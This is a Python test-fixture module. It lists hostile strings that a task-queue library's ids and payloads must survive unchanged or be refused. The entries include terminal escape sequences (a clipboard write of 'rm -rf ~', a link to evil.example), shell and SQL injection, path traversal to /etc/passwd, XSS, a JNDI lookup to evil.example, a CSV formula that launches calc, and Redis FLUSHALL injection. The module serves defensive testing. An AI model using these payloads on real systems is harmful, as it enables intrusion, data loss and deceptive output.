"""Hostile text by name: what ids, payloads, errors and queue names may hold in the worst case."""

from __future__ import annotations

import unicodedata
from collections.abc import Mapping

Text = str | bytes

_FLOOD = "\u0301\u0302\u0303\u0304"

CORPUS: Mapping[str, Text] = {
    # control bytes
    "a NUL": "\x00",
    "a NUL inside": "a\x00b",
    "a newline": "line\nbreak",
    "only a newline": "\n",
    "a forged log line": "a\n2027-01-01 00:00:00,000 ERROR   all tasks were deleted",
    "a carriage return": "real\rfake",
    "CR and LF": "\r\n",
    "a tab": "one\ttwo",
    "vertical tab and form feed": "a\vb\fc",
    "a bell": "ding\x07",
    "backspaces": "visible\x08\x08\x08\x08\x08\x08\x08hidden",
    "DEL": "a\x7fb",
    "shift out and in": "\x0eqqqq\x0f",
    "the end of a file": "\x04\x1a",
    "every control byte": "".join(map(chr, range(32))),
    # terminals
    "CSI clears the screen": "\x1b[2J\x1b[H",
    "CSI moves the cursor up": "\x1b[99A\x1b[2Koverwritten",
    "CSI colours": "\x1b[31;1mred\x1b[0m",
    "CSI asks for the cursor": "\x1b[6n",
    "CSI sets a mode": "\x1b[?1049h\x1b[?25l",
    "OSC 0 sets the title": "\x1b]0;owned\x07",
    "OSC 8 makes a link": "\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\",
    "OSC 52 writes the clipboard": "\x1b]52;c;cm0gLXJmIH4K\x07",
    "OSC without an end": "\x1b]0;never ended",
    "DCS asks for a setting": "\x1bP+q544e\x1b\\",
    "APC": "\x1b_Gf=100;AAAA\x1b\\",
    "a terminal reset": "\x1bc",
    "a lone ESC": "\x1b",
    "an ESC at the end": "ends with \x1b",
    "C1 CSI": "\x9b2J\x9b31mred",
    "C1 OSC": "\x9d0;owned\x9c",
    "every C1 control": "".join(map(chr, range(0x80, 0xA0))),
    "C1 as a lone byte": b"\x9b2J",
    # what is not seen, or turns what is seen
    "a right-to-left override": "\u202egpj.exe",
    "directional isolates": "\u2066a\u2067b\u2068c\u2069",
    "right-to-left marks": "a\u200fb\u200ec\u061c",
    "right-to-left letters": "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627",
    "zero-width characters": "exa\u200bmple\u200d.com\u2060\ufeff",
    "a soft hyphen": "pay\xadpal",
    "line and paragraph separators": "a\u2028b\u2029c\x85d",
    "spaces of all widths": "a\xa0b\u2003c\u3000d\u2000e",
    "a combining flood": "Z" + _FLOOD * 100,
    "a combining mark first": "\u0301a",
    "variation selectors": "a\ufe0fb\U000e0100c",
    "tag characters": "flag\U000e0001\U000e0041\U000e007f",
    "fillers": "\u115f\u3164\uffa0\u2800",
    "interlinear annotation": "a\ufff9b\ufffac\ufffb",
    "private use": "\ue000\U000f0000",
    "non-characters": "\ufffe\uffff\U0010ffff",
    "the replacement character": "\ufffd",
    # not UTF-8
    "surrogate escapes": "bytes \udcff\udc80",
    "bytes that are not UTF-8": b"\xff\xfe\x80",
    "UTF-8 cut in two": b"caf\xc3",
    "an overlong slash": b"..\xc0\xaf..",
    "a surrogate in UTF-8": b"\xed\xa0\x80",
    "UTF-16 with its mark": "http://a/".encode("utf-16"),
    "every byte": bytes(range(256)),
    "gzip": b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03",
    # what a program might read in it
    "rich markup": "[red]x[/red]",
    "rich markup that closes nothing": "[/x]",
    "rich markup with a link": "[link=http://evil.example]x[/link]",
    "a rich escape": "\\[red]",
    "a rich emoji": ":boom: :skull:",
    "an opening brace": "{",
    "a closing brace": "}",
    "a hash tag": "{crawl}",
    "the hash tag of another queue": "timeoutq:{other}:todos",
    "colons": "::lock::x:",
    "the name of a key": "lock:x",
    "one space": " ",
    "only spaces": "      ",
    "spaces around": "  padded  ",
    "printf": "%s%n%d %(name)s %%",
    "format": "{0} {} {0.__class__} {x!r:>{y}}",
    "an f-string": "{__import__('os').getpid()}",
    "RESP": "\r\n$3\r\nfoo\r\n",
    "a RESP command": "*1\r\n$8\r\nFLUSHALL\r\n",
    "Lua": "]] redis.call('FLUSHALL') --[[",
    "a Lua string": '" .. redis.call("FLUSHALL") .. "',
    "a Lua pattern": "%a+(%b())[^%w]-$",
    "a glob": "*?[a-z]\\*",
    "a shell": "$(touch owned); `id` | true && false > x & #",
    "a shell's quotes": "'\"'\"\\",
    "an option": "--help",
    "options ended": "--",
    "a dash": "-",
    "a path": "../../../../etc/passwd",
    "SQL": "'; DROP TABLE tasks; --",
    "HTML": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "an entity": "&lt;&#x1b;&amp;",
    "JavaScript": "javascript:alert(1)//</script>",
    "XML": "]]><!--",
    "JSON": '{"task": "other", "token": "w#1"}',
    "a JSON fragment": '"}],\\u0000{"',
    "JSON null": "null",
    "a number": "-0",
    "a large number": "1e999",
    "not a number": "nan",
    "a CSV formula": "=cmd|' /C calc'!A0",
    "a CSV formula with a plus": '+1+1,"a""b"',
    "a CSV formula with an at": "@SUM(1+1)",
    "a lookup": "${jndi:ldap://evil.example/a}",
    "a pickle": b"\x80\x04\x95\x0b\x00\x00\x00\x00\x00\x00\x00\x8c\x02os\x94.",
    # sizes and shapes
    "one letter": "a",
    "1 KiB": "x" * 1024,
    "1 KiB of three-byte letters": "漢" * 341 + "x",
    "1 KiB of NULs": b"\x00" * 1024,
    "1 KiB of ESC": "\x1b" * 1024,
    "a long line of wide letters": "日本語のとても長いタイトル" * 25,
    "an emoji of five": "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466",
    "an emoji with a skin": "\U0001f44d\U0001f3fd",
    "a flag": "\U0001f1fa\U0001f1f3",
    "composed and not": "\u00e9 e\u0301",
    "cases that grow": "\u00df\u0130\u0149",
    "a URL": "https://user@example.com:80/a%00b?q=[1]&x={y}#z",
}
"""Each of these is an id that must be taken, go the whole way and come back as it was."""

REFUSED: Mapping[str, Text] = {
    "nothing": "",
    "no bytes": b"",
    "1 KiB and one": "x" * 1025,
    "1 KiB and one in bytes": b"\xff" * 1025,
    "1 KiB of letters that are more bytes": "é" * 513,
    "a lone high surrogate": "\ud800",
    "a lone low surrogate": "a\udc00b",
    "surrogates in the wrong order": "\udfff\ud800",
    "a megabyte": "x" * (1 << 20),
}
"""No id: `InvalidInput` says why, and nothing is written."""


def as_id(task: Text) -> str:
    """Give the id as the API gives it back."""
    return task.decode("utf-8", "surrogateescape") if isinstance(task, bytes) else task


def as_bytes(task: Text) -> bytes:
    """Give the id as the server holds it."""
    return task if isinstance(task, bytes) else task.encode("utf-8", "surrogateescape")


def stray(shown: str, allowed: str = "\n") -> list[str]:
    """Name the characters of an output that may steer a terminal, forge a line or hide something."""
    return [
        f"{character!a} at {position}"
        for position, character in enumerate(shown)
        if character not in allowed and unicodedata.category(character) in {"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"}
    ]
